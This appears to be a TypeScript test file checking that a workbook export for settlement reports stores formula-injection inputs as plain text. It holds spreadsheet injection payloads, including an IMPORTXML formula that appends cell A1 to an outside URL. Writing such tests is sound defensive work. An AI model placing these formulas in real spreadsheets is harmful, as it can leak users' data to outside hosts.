import * as XLSX from '@e965/xlsx';
import { expect, test } from 'vitest';
import { writeXlsx } from '../../desk/files/write-workbook.ts';
import { county, MARCH, reportOf, type Settled, settleCounty, YEAR } from './county.ts';
import { looks, placed } from './reading.ts';

const options = { title: '結算報告', madeAt: new Date('2026-11-23T00:00:00Z') };

const INJECTIONS = [
  '=IMPORTXML("http://example.org/"&A1,"//a")',
  '＝1',
  '+1+1',
  '-2+3',
  '@SUM(1)',
  '\t=1',
  '#REF!',
];

/** Names, groups, documents and items that want to be formulas, however they may have got into an area. */
function hostile(settled: Settled): Settled {
  const { area } = settled;
  const [first = '', ...others] = INJECTIONS;
  const named = <T extends { readonly name: string }>(map: ReadonlyMap<string, T>) =>
    new Map([...map].map(([code, one], index) => [code, { ...one, name: others[index] ?? one.name }]));
  const tables = {
    ...area.tables,
    budget: area.tables.budget.map((row) => ({ ...row, document: '=HYPERLINK("http://example.org/")' })),
    clearingAdjustments: area.tables.clearingAdjustments.map((row) => ({
      ...row,
      item: '=1+1',
      document: '+1',
    })),
  };
  const changed: Settled['area'] = {
    ...area,
    params: { ...area.params, 'region.name': first },
    institutions: named(area.institutions),
    consortia: named(area.consortia),
    groups: named(area.groups),
    tables,
  };
  return { ...settled, area: changed };
}

test('no text of the input becomes a formula', async () => {
  const models = reportOf(hostile(await settleCounty(county(), YEAR)));
  const book = XLSX.read(await writeXlsx(models, options), { cellFormula: true });
  const strings = new Set<string>();
  for (const name of book.SheetNames) {
    for (const [address, cell] of Object.entries(book.Sheets[name]!)) {
      if (address.startsWith('!')) continue;
      expect(cell.f, `${name}!${address}`).toBeUndefined();
      if (cell.t === 's') strings.add(cell.v);
    }
  }
  for (const text of INJECTIONS.slice(1)) expect([...strings]).toContain(text);
  expect([...strings].some((text) => text.startsWith(`${INJECTIONS[0]} 2025年度`))).toBe(true);
  expect([...strings]).toContain('=HYPERLINK("http://example.org/")');
  expect([...strings]).toContain('└ 清算調整：=1+1　+1');
});

test('another reader shows every cell of the models as it is meant', async () => {
  for (const period of [MARCH, YEAR]) {
    const models = reportOf(await settleCounty(county(), period));
    const book = XLSX.read(await writeXlsx(models, options), { cellNF: true, cellText: true });
    expect(book.SheetNames).toEqual(models.map(({ name }) => name));
    for (const model of models) {
      const sheet = book.Sheets[model.name]!;
      model.rows.forEach((row, index) => {
        for (const [column, cell] of placed(row)) {
          const there = sheet[XLSX.utils.encode_cell({ r: index, c: column })];
          expect(there?.w ?? there?.v ?? '', `${model.name} ${index + 1}:${column}`).toBe(looks(cell));
        }
      });
    }
  }
});

test('the same settlement gives the same bytes', async () => {
  const bytes = async () => writeXlsx(reportOf(await settleCounty(county(), MARCH)), options);
  expect(Buffer.from(await bytes()).equals(Buffer.from(await bytes()))).toBe(true);
});
